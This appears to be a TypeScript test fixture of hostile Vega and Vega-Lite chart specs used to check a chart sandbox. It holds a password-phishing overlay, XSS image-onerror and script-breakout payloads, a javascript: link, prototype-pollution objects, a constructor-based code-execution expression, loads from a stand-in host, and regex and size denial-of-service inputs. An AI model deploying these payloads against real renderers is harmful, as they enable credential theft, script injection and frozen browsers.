/** Charts that a cell may send to take over the page, to reach the network, or to stop the browser. */

type Spec = Readonly<Record<string, unknown>>;

export interface Drawing {
	readonly language: 'vegalite.v5' | 'vega.v5';
	readonly spec: Spec;
	/** What stands in its place; without it the chart is drawn. */
	readonly words?: RegExp;
}

const COVER = 'position:fixed;inset:0;width:100vw;height:100vh;z-index:99999;background:#fee';
const x = { x: { field: 'a', type: 'quantitative' } };
const data = { values: [{ a: 1 }, { a: 2 }] };
const bar = { data, mark: 'bar', encoding: x };

const lite = (spec: Spec, words?: RegExp): Drawing =>
	words ? { language: 'vegalite.v5', spec, words } : { language: 'vegalite.v5', spec };
const vega = (spec: Spec, words?: RegExp): Drawing =>
	words ? { language: 'vega.v5', spec, words } : { language: 'vega.v5', spec };
const bound = (bind: Spec) => lite({ ...bar, params: [{ name: 'p', value: 'x', bind }] });
const COULD_NOT = /could not be drawn/;

/** Drawn, or told in words, at once. */
export const DRAWINGS: Readonly<Record<string, Drawing>> = {
	'an ordinary chart': lite(bar),
	'a field over the page': bound({
		input: 'text',
		element: 'body',
		style: COVER,
		placeholder: 'Session expired: type your password'
	}),
	'a field in the place of the lesson': bound({ input: 'text', element: 'main' }),
	'a field with a form of its own': bound({
		input: 'text',
		formaction: 'http://HOST/x',
		autofocus: true
	}),
	'an event of the window': vega({
		width: 50,
		height: 50,
		signals: [{ name: 's', on: [{ events: 'window:keydown', update: 'warn(event.key)' }] }]
	}),
	'an event of any element': vega({
		width: 50,
		height: 50,
		signals: [
			{
				name: 's',
				on: [{ events: { source: 'window', type: 'mousemove', consume: true }, update: '1' }]
			}
		]
	}),
	'a link that is code': lite({
		...bar,
		encoding: { ...x, href: { value: 'javascript:parent.boom()' } }
	}),
	'a link to elsewhere': lite({ ...bar, encoding: { ...x, href: { value: 'http://HOST/x' } } }),
	'a picture from elsewhere': lite({
		data,
		mark: 'image',
		encoding: { ...x, url: { value: 'http://HOST/x' } }
	}),
	'data from elsewhere': lite({ data: { url: 'http://HOST/x.csv' }, mark: 'bar', encoding: x }),
	'a map from elsewhere': lite({
		data: { url: 'http://HOST/x.json', format: { type: 'topojson', feature: 'f' } },
		mark: 'geoshape'
	}),
	'three hundred million rows': lite(
		{ data: { sequence: { start: 0, stop: 3e8 } }, mark: 'point' },
		/300,000,000 rows/
	),
	'a canvas of a thousand million': lite({ ...bar, width: 1e9 }, /1,000,000,000 pixels/),
	'a width that is worked out': vega({
		width: 1,
		height: 20,
		signals: [{ name: 'width', update: '1e9' }]
	}),
	'very many parts': lite(
		{ ...bar, repeat: { row: Array(50).fill('a'), column: Array(50).fill('a') }, spec: bar },
		/more than 400 drawings/
	),
	'options for embedding': lite({
		...bar,
		usermeta: {
			embedOptions: {
				loader: { baseURL: 'http://HOST/' },
				patch: 'http://HOST/patch.json',
				actions: true
			}
		}
	}),
	'names of prototypes': lite(
		{
			data: { values: [JSON.parse('{"__proto__": 1, "constructor": 2, "a": 3}') as object] },
			mark: 'bar',
			encoding: {
				x: { field: '__proto__', type: 'quantitative' },
				y: { field: 'constructor', type: 'nominal' }
			},
			config: JSON.parse('{"__proto__": {"polluted": true}, "constructor": {}}') as object
		},
		COULD_NOT
	),
	'data sets of such names': lite(
		{
			datasets: JSON.parse('{"__proto__": [{"a": 1}], "toString": [{"a": 2}]}') as object,
			data: { name: 'toString' },
			mark: 'bar',
			encoding: x
		},
		COULD_NOT
	),
	'a tooltip with markup': lite({
		...bar,
		encoding: { ...x, tooltip: { value: '<img src=http://HOST/x onerror=parent.boom()>' } }
	}),
	'a title with markup': lite({ ...bar, title: '</script><img src=x onerror=parent.boom()>' }),
	'functions of the page': vega(
		{
			width: 20,
			height: 20,
			signals: [{ name: 's', update: "constructor.constructor('parent.boom()')()" }]
		},
		COULD_NOT
	),
	nonsense: lite({ mark: 'nonsense' }, COULD_NOT),
	'nothing but a list': { language: 'vegalite.v5', spec: [] as unknown as Spec, words: COULD_NOT }
};

/** Each takes for ever, and is stopped. */
export const ENDLESS: Readonly<Record<string, Drawing>> = {
	'an expression that backtracks': vega({
		width: 20,
		height: 20,
		signals: [{ name: 's', update: `test(/^(a+)+$/, '${'a'.repeat(40)}!')` }]
	}),
	'sums for each of very many rows': vega({
		width: 20,
		height: 20,
		data: [
			{
				name: 'a',
				transform: [
					{ type: 'sequence', start: 0, stop: 2e5 },
					{ type: 'formula', as: 'n', expr: 'length(sequence(1e5))' }
				]
			}
		]
	})
};
